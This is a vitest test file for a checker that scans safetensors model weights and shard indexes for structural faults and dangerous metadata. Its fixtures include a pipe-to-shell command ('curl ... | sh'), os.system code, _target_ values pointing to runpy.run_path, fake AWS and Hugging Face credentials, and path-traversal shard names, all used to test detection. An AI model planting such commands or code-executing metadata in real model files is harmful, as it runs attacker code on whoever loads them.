import { describe, expect, it } from 'vitest';
import { runCheck } from '../../../../test/builders/check-runner.ts';
import { parseBytes } from '../../../../test/builders/parse-bytes.ts';
import { writeSafetensors, type SafetensorsInput } from '../../../../test/builders/safetensors.ts';
import safetensors from '../../../formats/safetensors/format.ts';
import { safetensorsIndex } from '../../../formats/safetensors/safetensors-index.ts';
import shards, { safetensorsShards } from '../../../formats/safetensors-shards/format.ts';
import check from './check.ts';

const DATA = Uint8Array.from({ length: 16 }, (_, index) => index);
const TENSOR = { name: 'w', dtype: 'F32', shape: [2, 2], data: DATA } as const;

async function rulesOf(input: SafetensorsInput): Promise<readonly string[]> {
  const parsed = await parseBytes(safetensors, writeSafetensors(input));
  if (!parsed.ok) throw new Error(parsed.error.detail);
  const findings = await runCheck(check, [[safetensorsIndex, parsed.value, parsed.anomalies]]);
  return findings.map(({ rule }) => rule.replace('safetensors-structure/', ''));
}

async function shardFindings(text: string) {
  const parsed = await parseBytes(shards, Buffer.from(text));
  if (!parsed.ok) throw new Error(parsed.error.detail);
  return runCheck(check, [[safetensorsShards, parsed.value, parsed.anomalies]]);
}

describe('checks/weights/safetensors-structure', () => {
  it.each<[string, SafetensorsInput, readonly string[]]>([
    [
      'overlap',
      { tensors: [TENSOR, { ...TENSOR, name: 'v', offsets: [8, 24], data: DATA.subarray(8) }] },
      ['overlapping-tensors'],
    ],
    [
      'a hole',
      { tensors: [{ ...TENSOR, offsets: [4, 20] }], trailing: DATA.subarray(12) },
      ['unclaimed-bytes'],
    ],
    ['trailing bytes', { tensors: [TENSOR], trailing: DATA }, ['unclaimed-bytes']],
    [
      'a tensor behind the file',
      { tensors: [{ name: 'w', shape: [64], offsets: [0, 64] }] },
      ['data-outside-file'],
    ],
    ['a wrong shape', { tensors: [{ ...TENSOR, shape: [3] }] }, ['size-mismatch']],
    [
      'a repeated key',
      { header: '{"a":null,"a":null}' },
      ['duplicate-key', 'malformed-header', 'malformed-header'],
    ],
    ['an unknown dtype', { tensors: [{ ...TENSOR, dtype: 'Q4' }] }, ['malformed-header']],
    [
      'code',
      { metadata: { a: 'import os; os.system("echo weighbridge-test")' } },
      ['metadata-code'],
    ],
    [
      'a pipe to a shell',
      { metadata: { a: 'curl https://example.invalid/x | sh' } },
      ['metadata-code'],
    ],
    [
      'a class to instantiate',
      { metadata: { a: '{"_target_": "builtins.print"}' } },
      ['metadata-target'],
    ],
    [
      'the same in YAML',
      { metadata: { a: 'model:\n  _target_: torch.nn.Linear' } },
      ['metadata-target'],
    ],
    [
      'a command among several classes to instantiate',
      { metadata: { a: '{"_target_": "torch.nn.Linear", "b": {"_target_": "runpy.run_path"}}' } },
      ['metadata-dangerous-target'],
    ],
    ['a credential', { metadata: { a: `AKIA${'A'.repeat(16)}` } }, ['metadata-secret']],
    ['a raw address', { metadata: { a: 'see http://192.0.2.1/info' } }, ['metadata-link']],
    [
      'a link with a password',
      { metadata: { a: 'https://user:secret@example.invalid/' } },
      ['metadata-link'],
    ],
  ])('reports %s', async (_, input, rules) => {
    expect([...(await rulesOf(input))].sort()).toEqual([...rules].sort());
  });

  it('never repeats a credential', async () => {
    const secret = `hf_${'x'.repeat(34)}`;
    const parsed = await parseBytes(safetensors, writeSafetensors({ metadata: { token: secret } }));
    const findings = parsed.ok ? await runCheck(check, [[safetensorsIndex, parsed.value]]) : [];

    expect(findings).toHaveLength(1);
    expect(JSON.stringify(findings)).not.toContain(secret);
  });

  it.each([
    [
      'a parent folder',
      '{"weight_map":{"w":"../x.safetensors"}}',
      'safetensors-structure/shard-outside-folder',
    ],
    [
      'an absolute path',
      '{"weight_map":{"w":"/x.safetensors"}}',
      'safetensors-structure/shard-outside-folder',
    ],
    [
      'a link',
      '{"weight_map":{"w":"https://example.invalid/x"}}',
      'safetensors-structure/shard-outside-folder',
    ],
    [
      'a tensor in two files',
      '{"weight_map":{"w":"a","w":"b"}}',
      'safetensors-structure/ambiguous-index',
    ],
  ])('reports an index with %s', async (_, text, rule) => {
    expect((await shardFindings(text)).map((finding) => finding.rule)).toEqual([rule]);
  });

  it.each<[string, SafetensorsInput]>([
    ['no tensor', {}],
    [
      'tensors in another order than their data',
      {
        tensors: [
          { ...TENSOR, offsets: [16, 32] },
          { ...TENSOR, name: 'v', offsets: [0, 16] },
        ],
      },
    ],
    ['an empty tensor', { tensors: [{ name: 'e', shape: [0, 4] }, TENSOR] }],
    ['a scalar', { tensors: [{ name: 's', dtype: 'F32', shape: [], data: new Uint8Array(4) }] }],
    [
      'the metadata of trainers',
      {
        metadata: {
          format: 'pt',
          ss_network_args: '{"conv_dim": 4}',
          'modelspec.implementation': 'https://github.com/example/sd',
          ss_training_comment: 'evaluate (carefully) before use; execute nothing',
        },
      },
    ],
  ])('stays silent about %s', async (_, input) => {
    expect(await rulesOf(input)).toEqual([]);
  });

  it('stays silent about an honest index', async () => {
    expect(
      await shardFindings(
        '{"metadata":{"total_size":8},"weight_map":{"a":"model-00001-of-00002.safetensors","b":"sub/model.safetensors"}}',
      ),
    ).toEqual([]);
  });
});
